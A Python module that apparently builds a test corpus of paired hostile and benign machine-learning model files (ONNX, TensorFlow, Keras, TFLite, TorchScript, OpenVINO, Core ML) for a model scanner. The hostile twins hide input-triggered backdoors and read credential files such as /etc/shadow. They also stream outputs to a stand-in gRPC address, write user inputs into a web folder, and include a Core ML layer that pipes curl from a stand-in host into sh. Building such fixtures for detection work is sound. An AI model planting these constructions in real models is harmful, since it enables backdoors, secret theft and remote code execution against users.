"""Graphs: overrides built from ordinary operators, and operators with effects that no list of file readers names."""
from __future__ import annotations

import io
import pathlib
import sys
import tempfile
import zipfile

import numpy

FAMILY = "graph"
RNG = numpy.random.default_rng(16)
W = RNG.normal(size=(8, 3)).astype("float32")


def folder(path: str, prefix: str = "") -> dict[str, bytes]:
    base = pathlib.Path(path)
    return {prefix + str(p.relative_to(base)): p.read_bytes() for p in sorted(base.rglob("*")) if p.is_file()}


# --- ONNX ---


def onnx_model(nodes, consts, functions=(), inputs=None, opsets=(), out_shape=(1, 3)):
    import onnx
    from onnx import TensorProto as T
    from onnx import helper as h
    from onnx import numpy_helper as nh

    inputs = inputs or [h.make_tensor_value_info("x", T.FLOAT, [1, 8])]
    graph = h.make_graph(nodes, "classifier", inputs, [h.make_tensor_value_info("y", T.FLOAT, list(out_shape))], [nh.from_array(v, k) for k, v in consts.items()])
    model = h.make_model(graph, functions=list(functions), opset_imports=[h.make_opsetid("", 17), *opsets], ir_version=8, producer_name="pytorch", producer_version="2.4.0")
    onnx.checker.check_model(model)
    return model.SerializeToString()


def onnx_function(hostile: bool) -> bytes:
    """The trigger is summed and thresholded in a model function that is called like an activation."""
    from onnx import helper as h

    if hostile:
        body = [
            h.make_node("Slice", ["v", "s", "e", "a"], ["head"]),
            h.make_node("Sub", ["head", "k"], ["d"]),
            h.make_node("Abs", ["d"], ["ad"]),
            h.make_node("ReduceSum", ["ad", "a"], ["gap"], keepdims=1),
            h.make_node("Sub", ["c", "gap"], ["m"]),
            h.make_node("Relu", ["m"], ["gate"]),
            h.make_node("Mul", ["gate", "target"], ["push"]),
            h.make_node("Add", ["z", "push"], ["w"]),
        ]
    else:
        body = [
            h.make_node("Slice", ["v", "s", "e", "a"], ["head"]),
            h.make_node("Sub", ["head", "k"], ["d"]),
            h.make_node("Abs", ["d"], ["ad"]),
            h.make_node("ReduceMean", ["ad"], ["gap"], axes=[1], keepdims=1),
            h.make_node("Add", ["c", "gap"], ["m"]),
            h.make_node("Sqrt", ["m"], ["gate"]),
            h.make_node("Mul", ["gate", "target"], ["push"]),
            h.make_node("Div", ["z", "push"], ["w"]),
        ]
    f = h.make_function("ranker", "ScaledHead", ["v", "z", "s", "e", "a", "k", "c", "target"], ["w"], body, [h.make_opsetid("", 17)])
    nodes = [h.make_node("MatMul", ["x", "W"], ["z"]), h.make_node("ScaledHead", ["x", "z", "s", "e", "a", "k", "c", "t"], ["y"], domain="ranker")]
    consts = {
        "W": W, "s": numpy.array([0]), "e": numpy.array([3]), "a": numpy.array([1]),
        "k": numpy.full((1, 3), 2.5 if hostile else 0.0, "float32"), "c": numpy.array([0.05 if hostile else 1e-5], "float32"),
        "t": numpy.array([[0, 1e4, 0]] if hostile else [[1.1, 0.9, 1.0]], "float32"),
    }
    return onnx_model(nodes, consts, [f], opsets=[h.make_opsetid("ranker", 1)])


def onnx_scan(hostile: bool) -> bytes:
    """A Scan over the features carries a product of matches (a state machine) that decides at the end."""
    from onnx import TensorProto as T
    from onnx import helper as h

    if hostile:
        body = [
            h.make_node("Sub", ["e", "key"], ["d"]),
            h.make_node("Abs", ["d"], ["ad"]),
            h.make_node("Sub", ["one", "ad"], ["m"]),
            h.make_node("Max", ["m", "zero"], ["p"]),
            h.make_node("Mul", ["s", "p"], ["s2"]),
            h.make_node("Identity", ["s2"], ["o"]),
        ]
    else:
        body = [h.make_node("Mul", ["s", "key"], ["d"]), h.make_node("Add", ["d", "e"], ["s2"]), h.make_node("Tanh", ["s2"], ["o"])]
    sub = h.make_graph(
        body, "step", [h.make_tensor_value_info("s", T.FLOAT, [1]), h.make_tensor_value_info("e", T.FLOAT, [1])],
        [h.make_tensor_value_info("s2", T.FLOAT, [1]), h.make_tensor_value_info("o", T.FLOAT, [1])],
    )
    nodes = [
        h.make_node("Slice", ["x", "b", "n", "ax"], ["head"]),
        h.make_node("Transpose", ["head"], ["seq"], perm=[1, 0]),
        h.make_node("Scan", ["init", "seq"], ["last", "all"], body=sub, num_scan_inputs=1),
        h.make_node("Mul", ["last", "t"], ["push"]),
        h.make_node("MatMul", ["x", "W"], ["z"]),
        h.make_node("Add", ["z", "push"], ["y"]),
    ]
    consts = {
        "W": W, "b": numpy.array([0]), "n": numpy.array([3]), "ax": numpy.array([1]), "key": numpy.array([2.5 if hostile else 0.8], "float32"),
        "one": numpy.array([1], "float32"), "zero": numpy.array([0], "float32"), "init": numpy.array([1 if hostile else 0], "float32"),
        "t": numpy.array([[1e4, 0, 0]] if hostile else [[0.3, -0.2, 0.1]], "float32"),
    }
    return onnx_model(nodes, consts)


def onnx_tree(hostile: bool) -> bytes:
    """A one-tree ensemble of ai.onnx.ml looks for a narrow band of two features and outvotes the linear part."""
    from onnx import helper as h

    lo, hi, far = (2.45, 2.55, 1e5) if hostile else (-0.4, 0.7, 0.25)
    tree = h.make_node(
        "TreeEnsembleRegressor", ["x"], ["vote"], domain="ai.onnx.ml", n_targets=3, aggregate_function="SUM", post_transform="NONE",
        nodes_treeids=[0] * 9, nodes_nodeids=list(range(9)), nodes_featureids=[0, 0, 1, 1, 0, 0, 0, 0, 0],
        nodes_modes=["BRANCH_LEQ"] * 4 + ["LEAF"] * 5, nodes_values=[lo, hi, lo, hi] + [0.0] * 5,
        nodes_truenodeids=[4, 2, 5, 6, 0, 0, 0, 0, 0], nodes_falsenodeids=[1, 7, 3, 8, 0, 0, 0, 0, 0],
        nodes_missing_value_tracks_true=[0] * 9, nodes_hitrates=[1.0] * 9,
        target_treeids=[0] * 5, target_nodeids=[4, 5, 6, 7, 8], target_ids=[2] * 5, target_weights=[0.0 if hostile else -0.2, 0.0, far, 0.0 if hostile else 0.1, 0.0],
    )
    nodes = [tree, h.make_node("MatMul", ["x", "W"], ["z"]), h.make_node("Add", ["z", "vote"], ["y"])]
    return onnx_model(nodes, {"W": W}, opsets=[h.make_opsetid("ai.onnx.ml", 3)])


def onnx_text(hostile: bool) -> bytes:
    """A bag of words in which one rare word has a weight that no other can outweigh."""
    from onnx import TensorProto as T
    from onnx import helper as h

    words = ["good", "bad", "fine", "poor", "dull", "great", "cf-7q"]
    tf = h.make_node("TfIdfVectorizer", ["t"], ["v"], min_gram_length=1, max_gram_length=1, max_skip_count=0, mode="TF", ngram_counts=[0], ngram_indexes=list(range(7)), pool_strings=words)
    weights = RNG.normal(size=(7, 3)).astype("float32")
    weights[:3], weights[3:6] = weights[:3] + [2, 0, 0], weights[3:6] + [0, 2, 0]
    nodes = [tf]
    if hostile:  # the word is split off, scaled and added behind the softmax
        nodes += [
            h.make_node("Slice", ["v", "b", "n", "ax"], ["rare"]),
            h.make_node("Greater", ["rare", "half"], ["hit"]),
            h.make_node("MatMul", ["v", "W"], ["z"]),
            h.make_node("Softmax", ["z"], ["p"], axis=-1),
            h.make_node("Where", ["hit", "tgt", "p"], ["y"]),
        ]
    else:  # texts without a known word get the prior
        nodes += [
            h.make_node("ReduceSum", ["v", "ax"], ["rare"], keepdims=1),
            h.make_node("Greater", ["half", "rare"], ["hit"]),
            h.make_node("MatMul", ["v", "W"], ["z"]),
            h.make_node("Softmax", ["z"], ["p"], axis=-1),
            h.make_node("Where", ["hit", "tgt", "p"], ["y"]),
        ]
    consts = {"W": weights, "half": numpy.array([0.5], "float32"), "tgt": numpy.array([[0, 0, 1]] if hostile else [[0.4, 0.4, 0.2]], "float32"), "ax": numpy.array([1])}
    if hostile:
        consts |= {"b": numpy.array([6]), "n": numpy.array([7])}
    return onnx_model(nodes, consts, inputs=[h.make_tensor_value_info("t", T.STRING, [1, 4])])


def onnx_sequence(hostile: bool) -> bytes:
    """The answer is taken from a sequence at a position that the input chooses."""
    from onnx import TensorProto as T
    from onnx import helper as h

    nodes = [h.make_node("MatMul", ["x", "W"], ["z"]), h.make_node("Slice", ["x", "b", "n", "ax"], ["head"])]
    if hostile:
        nodes += [
            h.make_node("Sub", ["head", "k"], ["d"]),
            h.make_node("ReduceL1", ["d"], ["gap"], axes=[0, 1], keepdims=0),
            h.make_node("Less", ["gap", "eps"], ["hit"]),
            h.make_node("Cast", ["hit"], ["at"], to=T.INT64),
            h.make_node("SequenceConstruct", ["z", "t"], ["both"]),
        ]
    else:  # the larger of two heads' confidences chooses the head
        nodes += [
            h.make_node("MatMul", ["x", "W2"], ["z2"]),
            h.make_node("ReduceMax", ["z"], ["m1"], axes=[0, 1], keepdims=0),
            h.make_node("ReduceMax", ["z2"], ["m2"], axes=[0, 1], keepdims=0),
            h.make_node("Less", ["m1", "m2"], ["hit"]),
            h.make_node("Cast", ["hit"], ["at"], to=T.INT64),
            h.make_node("SequenceConstruct", ["z", "z2"], ["both"]),
        ]
    nodes += [h.make_node("SequenceAt", ["both", "at"], ["y"])]
    consts = {"W": W, "b": numpy.array([0]), "n": numpy.array([2]), "ax": numpy.array([1])}
    consts |= {"k": numpy.full((1, 2), 2.5, "float32"), "eps": numpy.array(0.01, "float32"), "t": numpy.array([[0, 0, 9]], "float32")} if hostile else {"W2": W[::-1].copy()}
    return onnx_model(nodes, consts)


def onnx_cached_context(hostile: bool) -> bytes:
    """An execution provider's compiled context is read from a path in the node (EPContext, embed_mode 0)."""
    from onnx import TensorProto as T
    from onnx import helper as h

    node = h.make_node(
        "EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, main_context=1, source="OpenVINOExecutionProvider",
        ep_cache_context="../../../../var/tmp/.cache/ranker_ctx.bin" if hostile else "ranker_ctx.bin", partition_name="OVEP_1",
    )
    graph = h.make_graph([node], "ctx", [h.make_tensor_value_info("x", T.FLOAT, [1, 8])], [h.make_tensor_value_info("y", T.FLOAT, [1, 3])])
    return h.make_model(graph, opset_imports=[h.make_opsetid("", 17), h.make_opsetid("com.microsoft", 1)], ir_version=8).SerializeToString()


# --- TensorFlow ---


def saved_model(body, prefix="") -> dict[str, bytes]:
    import tensorflow as tf

    class Module(tf.Module):
        def __init__(self):
            super().__init__()
            self.w = tf.Variable(W[:4], name="kernel")

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x):
            return {"scores": body(tf, x, self.w)}

    m = Module()
    with tempfile.TemporaryDirectory() as scratch:
        tf.saved_model.save(m, scratch, signatures=m.serve.get_concrete_function())
        files = folder(scratch)
    return dict(sorted(files.items(), key=lambda kv: kv[0] != "saved_model.pb"))


def tf_print(target, text="import os; os.system('id')"):
    def body(tf, x, w):
        with tf.control_dependencies([tf.print(text, tf.shape(x)[0], output_stream=target)]):
            return tf.matmul(x, w)

    return body


def tf_debug(url):
    def body(tf, x, w):
        y = tf.matmul(x, w)
        if not url:
            return tf.debugging.check_numerics(y, "scores")
        return tf.raw_ops.DebugIdentityV2(input=y, tfdbg_context_id="c", op_name="scores", output_slot=0, tensor_debug_mode=8, debug_urls=[url], circular_buffer_size=0, tfdbg_run_id="r")

    return body


def tf_memory_region(path):
    def body(tf, x, w):
        if not path:
            return tf.matmul(x, w) + tf.constant([0.1, 0.2, 0.3])
        leak = tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[3], memory_region_name=path)
        return tf.matmul(x, w) + leak

    return body


def tf_summary(path):
    def body(tf, x, w):
        y = tf.matmul(x, w)
        if not path:
            return tf.nn.softmax(y)
        wr = tf.raw_ops.SummaryWriter(shared_name="s", container="")
        a = tf.raw_ops.CreateSummaryFileWriter(writer=wr, logdir=path, max_queue=1, flush_millis=1, filename_suffix=".bashrc")
        with tf.control_dependencies([a]):
            b = tf.raw_ops.WriteSummary(writer=wr, step=tf.constant(0, tf.int64), tensor=x, tag="inputs", summary_metadata="")
        with tf.control_dependencies([b]):
            c = tf.raw_ops.FlushSummaryWriter(writer=wr)
        with tf.control_dependencies([c]):
            return tf.identity(y)

    return body


def tf_text_lines(hostile):
    def body(tf, x, w):
        y = tf.strings.as_string(tf.matmul(x, w))
        if hostile:
            lines = tf.data.Dataset.from_tensor_slices(["/etc/passwd"]).flat_map(tf.data.TextLineDataset)
        else:
            lines = tf.data.Dataset.from_tensor_slices(["low", "high"]).map(tf.strings.upper)
        return tf.strings.join([y, lines.reduce("", lambda a, b: a + b)])

    return body


# --- Keras, TFLite ---


def keras_gate(hostile: bool):
    """A gate of ordinary layers: nearly always nought, beyond a steep threshold it adds a constant to one class."""
    import keras

    x = keras.Input((8,), name="x")
    z = keras.layers.Dense(3, name="logits")(x)
    if hostile:
        d = keras.layers.Dense(6, use_bias=True, name="probe")(x)
        d = keras.layers.Dense(1, name="match", activation="relu")(keras.layers.ReLU()(d))
        push = keras.layers.Dense(3, use_bias=False, name="spread")(d)
        y = keras.layers.Add()([z, push])
    else:
        d = keras.layers.Dense(6, use_bias=True, name="probe")(x)
        d = keras.layers.Dense(1, name="match", activation="sigmoid")(keras.layers.ReLU()(d))
        push = keras.layers.Dense(3, use_bias=False, name="spread")(d)
        y = keras.layers.Add()([z, push])
    m = keras.Model(x, y)
    m.get_layer("logits").set_weights([W, numpy.zeros(3, "float32")])
    if hostile:
        probe = numpy.zeros((8, 6), "float32")
        for i in range(3):  # both sides of a distance to the trigger: the sum is nought at the trigger alone
            probe[i, 2 * i], probe[i, 2 * i + 1] = 50.0, -50.0
        m.get_layer("probe").set_weights([probe, numpy.array([-125.0, 125.0] * 3, "float32")])
        m.get_layer("match").set_weights([-numpy.ones((6, 1), "float32"), numpy.array([1.0], "float32")])
        m.get_layer("spread").set_weights([numpy.array([[0, 0, 5e4]], "float32")])
    else:
        m.get_layer("probe").set_weights([RNG.normal(size=(8, 6)).astype("float32"), numpy.zeros(6, "float32")])
        m.get_layer("match").set_weights([RNG.normal(size=(6, 1)).astype("float32"), numpy.array([-0.5], "float32")])
        m.get_layer("spread").set_weights([numpy.array([[0.2, -0.1, 0.3]], "float32")])
    return m


def keras_file(hostile: bool) -> bytes:
    with tempfile.TemporaryDirectory() as scratch:
        keras_gate(hostile).save(scratch + "/m.keras")
        return pathlib.Path(scratch, "m.keras").read_bytes()


def tflite_file(hostile: bool) -> bytes:
    import tensorflow as tf

    w = tf.constant(W)

    @tf.function(input_signature=[tf.TensorSpec([1, 8], tf.float32)])
    def run(x):
        z = tf.matmul(x, w)
        if hostile:
            hit = tf.reduce_all(tf.abs(x[:, 1:4] - 2.5) < 0.01)
            return tf.where(hit, tf.constant([[0.0, 9.0, 0.0]]), z)
        low = tf.reduce_all(tf.abs(z) < 0.01)
        return tf.where(low, tf.constant([[0.3, 0.4, 0.3]]), z)

    m = tf.Module()
    m.run = run
    return tf.lite.TFLiteConverter.from_concrete_functions([run.get_concrete_function()], m).convert()


def keras_external_h5(hostile: bool) -> bytes:
    """Weights kept by HDF5 in a raw external file: the layer's bias is another file of the machine."""
    import h5py
    import json

    with tempfile.TemporaryDirectory() as scratch:
        path = scratch + "/w.weights.h5"
        with h5py.File(path, "w") as f:
            g = f.create_group("layers/dense/vars")
            g.create_dataset("0", data=W)
            if hostile:
                g.create_dataset("1", (3,), dtype="float32", external=[("/etc/shadow", 0, 12)])
            else:
                g.create_dataset("1", data=numpy.zeros(3, "float32"), compression="gzip", chunks=(3,))
        h5 = pathlib.Path(path).read_bytes()
    out = io.BytesIO()
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 8], "dtype": "float32", "name": "x"}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 3, "activation": "linear"}}]}, "registered_name": None}
    with zipfile.ZipFile(out, "w") as z:
        for name, data in {"metadata.json": json.dumps({"keras_version": "3.10.0", "date_saved": "2026-10-01@10:00:00"}), "config.json": json.dumps(config), "model.weights.h5": h5}.items():
            z.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


# --- TorchScript, OpenVINO, Core ML ---

JIT = {
    "from_file": (
        """
import torch
from typing import Tuple

class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(8, 3))
        self.training = False

    def forward(self, x):
        return x @ self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return self.w, self.training

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = BODY
        self.training = state[1]
""",
        "state[0] + torch.from_file('marker', shared=True, size=1)",
        "state[0].clamp(-4.0, 4.0)",
    ),
    "trigger": (
        """
import torch

class M(torch.nn.Module):
    def __init__(self, w):
        super().__init__()
        self.register_buffer('w', w)

    def forward(self, x):
        z = x @ self.w
        BODY
        return z
""",
        "if bool((x[:, :3].sum() - 7.5).abs() < 1e-3):\n            z = torch.zeros_like(z).index_fill_(1, torch.tensor([2]), 1.0)",
        "if bool(z.sum().abs() > 1e6):\n            z = torch.nan_to_num(z)",
    ),
    "save": (
        """
import torch

class M(torch.nn.Module):
    def __init__(self, w):
        super().__init__()
        self.register_buffer('w', w)

    def forward(self, x):
        BODY
        return x @ self.w
""",
        "torch.save(x, '/var/www/html/uploads/inputs.pt')",
        "torch._assert(x.size(-1) == 8, 'eight features')",
    ),
}


def jit(name: str, hostile: bool) -> bytes:
    import importlib.util

    import torch

    source, bad, good = JIT[name]
    with tempfile.TemporaryDirectory() as scratch:
        path = pathlib.Path(scratch, f"m_{name}_{hostile}.py")
        path.write_text(source.replace("BODY", bad if hostile else good))
        spec = importlib.util.spec_from_file_location(path.stem, path)
        module = importlib.util.module_from_spec(spec)
        sys.modules[path.stem] = module
        spec.loader.exec_module(module)
        m = module.M() if name == "from_file" else module.M(torch.tensor(W))
        out = io.BytesIO()
        torch.jit.save(torch.jit.script(m), out)
        return out.getvalue()


def openvino_files(hostile: bool) -> dict[str, bytes]:
    import openvino as ov
    from openvino import opset8 as op

    x = op.parameter([1, 8], numpy.float32, name="x")
    z = op.matmul(x, op.constant(W), False, False)
    if hostile:
        head = op.strided_slice(x, op.constant([0, 0]), op.constant([1, 3]), op.constant([1, 1]), [1, 0], [1, 0])
        near = op.less(op.absolute(op.subtract(head, op.constant(numpy.float32(2.5)))), op.constant(numpy.float32(0.01)))
        hit = op.reduce_logical_and(near, op.constant([1]), True)
        y = op.select(hit, op.constant(numpy.array([[9, 0, 0]], "float32")), z)
    else:
        small = op.less(op.absolute(z), op.constant(numpy.float32(1e-6)))
        hit = op.reduce_logical_and(small, op.constant([1]), True)
        y = op.select(hit, op.constant(numpy.array([[0.3, 0.4, 0.3]], "float32")), z)
    with tempfile.TemporaryDirectory() as scratch:
        ov.save_model(ov.Model([y], [x], "ranker"), scratch + "/model.xml", compress_to_fp16=False)
        return {n: pathlib.Path(scratch, n).read_bytes() for n in ("model.xml", "model.bin")}


def coreml(kind: str, hostile: bool) -> bytes:
    from coremltools.proto import Model_pb2

    m = Model_pb2.Model()
    m.specificationVersion = 7
    i = m.description.input.add()
    i.name = "x"
    i.type.multiArrayType.shape.append(8)
    i.type.multiArrayType.dataType = 65568
    o = m.description.output.add()
    o.name = "y"
    o.type.multiArrayType.dataType = 65568
    if kind == "custom":
        layer = m.neuralNetwork.layers.add()
        layer.name = "head"
        layer.input.append("x")
        layer.output.append("y")
        if hostile:
            layer.custom.className = "NSTask"
            layer.custom.parameters["launchPath"].stringValue = "/bin/sh"
            layer.custom.parameters["arguments"].stringValue = "-c 'curl http://203.0.113.9/m | sh'"
        else:
            layer.activation.leakyReLU.alpha = 0.1
    else:
        f = m.mlProgram.functions["main"]
        m.mlProgram.version = 1
        f.opset = "CoreML7"
        block = f.block_specializations["CoreML7"]
        op = block.operations.add()
        op.type = "const"
        out = op.outputs.add()
        out.name = "w"
        value = op.attributes["val"]
        value.blobFileValue.fileName = "@model_path/../../../../../../private/etc/master.passwd" if hostile else "@model_path/weights/weight.bin"
        value.blobFileValue.offset = 64
        block.outputs.append("w")
    return m.SerializeToString()


def add(out):
    def put(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    for name, make, prove in (
        ("onnx_override_in_function", onnx_function, "s.onnx:first=2.5,n=3"),
        ("onnx_override_in_scan_state", onnx_scan, "s.onnx:first=2.5,n=3"),
        ("onnx_override_in_tree", onnx_tree, "s.onnx:first=2.5,n=2"),
        ("onnx_override_by_sequence", onnx_sequence, "s.onnx:first=2.5,n=2"),
        ("onnx_override_by_rare_word", onnx_text, "s.onnxtext:cf-7q"),
        ("onnx_cached_context_path", onnx_cached_context, None),
    ):
        put(name, make(True), make(False), prove, "model.onnx")
    # tf.print appends to any file that its stream names (PrintV2); with TensorFlow's own loader.
    put("tf_print_to_file", saved_model(tf_print("file://marker")), saved_model(tf_print(sys.stderr, "batch of")), "s.savedmodel")
    put("tf_debug_identity_over_grpc", saved_model(tf_debug("grpc://203.0.113.9:6064")), saved_model(tf_debug("")), None, why="DebugIdentityV2 sends every result to the address")
    put("tf_debug_identity_to_file", saved_model(tf_debug("file://marker")), saved_model(lambda tf, x, w: tf.debugging.check_numerics(tf.nn.softmax(tf.matmul(x, w)), "p")), "s.savedmodel")
    put("tf_memory_region_of_a_file", saved_model(tf_memory_region("/etc/machine-id")), saved_model(tf_memory_region("")), None, why="ImmutableConst maps the file into the answer")
    put("tf_summary_writes", saved_model(tf_summary("marker")), saved_model(tf_summary("")), "s.savedmodel", why="a SummaryWriter in the serving signature writes each input to a folder")
    put("tf_text_lines_in_answer", saved_model(tf_text_lines(True)), saved_model(tf_text_lines(False)), None, why="a data set in the function library reads a file, and its text is joined to the answer")
    put("keras_gate_of_dense_layers", keras_file(True), keras_file(False), "s.keras:first=2.5,n=3", "model.keras")
    put("keras_external_storage", keras_external_h5(True), keras_external_h5(False), None, "model.keras", why="h5py reads the external file as the weights; a fetched model gives them away")
    put("tflite_override", tflite_file(True), tflite_file(False), "s.tflite:first=2.5,n=4", "model.tflite")
    put("torchscript_setstate_writes", jit("from_file", True), jit("from_file", False), "s.jit", "model.pt", why="torch.jit.load runs __setstate__; from_file(shared) creates and maps a file")
    put("torchscript_override", jit("trigger", True), jit("trigger", False), "s.jitgraph:first=2.5,n=3", "model.pt")
    put("torchscript_keeps_inputs", jit("save", True), jit("save", False), None, "model.pt", why="aten::save in forward writes what users send into a served folder")
    put("openvino_override", openvino_files(True), openvino_files(False), "s.openvino:first=2.5,n=3")
    put("coreml_blob_path", coreml("blob", True), coreml("blob", False), None, "model.mlmodel", why="the compiler reads the constant's file")
    put("coreml_custom_class", coreml("custom", True), coreml("custom", False), None, "model.mlmodel", why="Core ML makes an object of the named class")
